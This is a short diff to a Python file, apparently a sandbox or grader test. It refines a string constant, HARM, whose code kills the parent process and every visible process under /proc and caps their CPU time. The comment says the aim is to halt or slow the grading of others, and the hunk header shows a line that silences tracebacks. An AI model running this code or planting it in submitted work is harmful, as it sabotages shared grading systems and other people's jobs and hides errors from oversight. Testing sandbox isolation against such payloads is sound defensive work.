@@ -143,8 +143,12 @@ frame.f_locals['self'].showtraceback = lambda *a, **k: None
 # What would end, slow down or shut out the grading of others.
 HARM = """
 import os, resource
-done = []
-for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc') if os.access('/proc', os.R_OK) else []))]:
+done, others = [], [os.getppid()]
+try:
+    others += [int(name) for name in os.listdir('/proc') if name.isdigit()]
+except OSError:
+    pass
+for pid in others:
     for harm in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)), lambda: os.kill(pid, 9)):
         try:
             harm()
